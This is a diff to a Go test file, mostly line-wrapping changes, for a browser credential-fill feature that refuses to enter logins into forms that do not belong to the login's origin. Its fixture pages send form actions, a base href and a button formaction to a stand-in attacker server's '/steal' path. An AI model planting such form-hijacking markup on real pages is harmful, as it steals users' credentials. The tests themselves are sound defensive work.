@@ -24,10 +24,11 @@ func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
 		"/around": `<iframe src="` + s.URL + `/"></iframe>`,
 	}
 	s.Pages = map[string]string{
-		"/":        form,
-		"/action":  strings.Replace(form, "method=post", `method=post action="`+evil.URL+`/steal"`, 1),
-		"/base":    `<base href="` + evil.URL + `/">` + strings.Replace(form, "method=post", `method=post action="steal"`, 1),
-		"/button":  strings.Replace(form, "<button>", `<button formaction="`+evil.LocalhostURL()+`/steal" formmethod=post>`, 1),
+		"/":       form,
+		"/action": strings.Replace(form, "method=post", `method=post action="`+evil.URL+`/steal"`, 1),
+		"/base":   `<base href="` + evil.URL + `/">` + strings.Replace(form, "method=post", `method=post action="steal"`, 1),
+		"/button": strings.Replace(form, "<button>", `<button formaction="`+evil.LocalhostURL()+`/steal" formmethod=post>`,
+			1),
 		"/data":    strings.Replace(form, "method=post", `method=post action="data:text/html,x"`, 1),
 		"/broken":  strings.Replace(form, "method=post", `method=post action="http://["`, 1),
 		"/inside":  `<iframe src="` + evil.URL + `/"></iframe>`,
@@ -53,7 +54,9 @@ func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
 		{s.URL + "/dataurl", "without an origin", "a data: frame has no origin"},
 	} {
 		obs := browsertest.Open(ctx, t, p, c.url)
-		for _, fill := range []browser.Fill{browsertest.Login("username", "bot", s.URL), browsertest.Login("password", browsertest.Hunter, s.URL), {Field: "password", Value: bctrl.NewSecret(browsertest.Hunter), Origins: []string{s.URL}, Direct: true}} {
+		for _, fill := range []browser.Fill{browsertest.Login("username", "bot", s.URL),
+			browsertest.Login("password", browsertest.Hunter, s.URL),
+			{Field: "password", Value: bctrl.NewSecret(browsertest.Hunter), Origins: []string{s.URL}, Direct: true}} {
 			role := "User"
 			if fill.Field == "password" {
 				role = "Password"
@@ -71,7 +74,8 @@ func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
 	require.False(t, p.Guarded(), "nothing was filled")
 
 	obs := browsertest.Open(ctx, t, p, s.URL+"/script")
-	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, browsertest.Login("password", browsertest.Hunter, s.URL)), "a script of the frame itself")
+	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
+		browsertest.Login("password", browsertest.Hunter, s.URL)), "a script of the frame itself")
 }
 
 // TestFillGoesOnlyIntoTheRightField aims at everything that is not one.
@@ -102,10 +106,12 @@ func TestFillGoesOnlyIntoTheRightField(t *testing.T) {
 		if c.field == "totp" {
 			value = "123456"
 		}
-		require.ErrorContains(t, p.Fill(ctx, browsertest.Find(t, obs, c.role, c.name).Ref, browsertest.Login(c.field, value, s.URL)), c.code, "%s into %s", c.field, c.name)
+		require.ErrorContains(t, p.Fill(ctx, browsertest.Find(t, obs, c.role, c.name).Ref,
+			browsertest.Login(c.field, value, s.URL)), c.code, "%s into %s", c.field, c.name)
 	}
 	ref := browsertest.Find(t, obs, "textbox", "password").Ref
-	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", browsertest.Hunter)), "vault.origin_mismatch", "no origins, nowhere")
+	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", browsertest.Hunter)), "vault.origin_mismatch",
+		"no origins, nowhere")
 	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", "", s.URL)), "vault.field_empty")
 	require.ErrorContains(t, p.Fill(ctx, ref, browsertest.Login("password", "two\nlines", s.URL)), "vault.fill_impossible")
 	browsertest.RequireUnseen(t, browsertest.Hunter, browsertest.InputValues(ctx, t, b))
